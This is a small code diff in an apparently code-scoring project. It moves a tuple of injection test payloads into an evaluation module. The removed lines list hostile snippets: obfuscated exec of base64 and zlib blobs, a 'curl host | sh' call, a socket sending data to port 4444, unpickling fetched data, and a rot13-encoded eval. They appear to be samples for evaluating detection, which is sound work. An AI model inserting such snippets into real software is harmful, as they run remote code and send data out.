@@ -23,6 +23,7 @@ import numpy as np
 import codewm_core as core
 from codewm.corpus.git import CommitRecord, FileChange, Repository
 from codewm.corpus.history import Replay, harvest_live, name_hash
+from codewm.model.evaluation.injection import PAYLOADS
 from codewm.model.scoring import channels
 from codewm.model.scoring.channels import CHANNELS, measure
 from codewm.model.scoring.engine_model import ScoringModel, load_model
@@ -32,17 +33,6 @@ from codewm.model.scoring.score import judge
 from codewm.model.scoring.settings import ScoreSettings
 
 Body = list[str]
-
-PAYLOADS = (
-    "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))",
-    "exec(__import__('zlib').decompress(__import__('base64').b64decode(b'eJwrSS0u')))",
-    "import subprocess\nsubprocess.Popen(['sh', '-c', cmd], shell=True)",
-    "import os\nos.system('curl -s ' + host + ' | sh')",
-    "import socket\nsock = socket.socket()\nsock.connect((host, 4444))\nsock.send(data)",
-    "import pickle, urllib.request\nstate = pickle.loads(urllib.request.urlopen(url).read())",
-    "handle = ctypes.CDLL(None)\nhandle.system(b'id')",
-    "eval(compile(codecs.decode(blob, 'rot13'), '<s>', 'exec'))",
-)
 
 
 class Function:
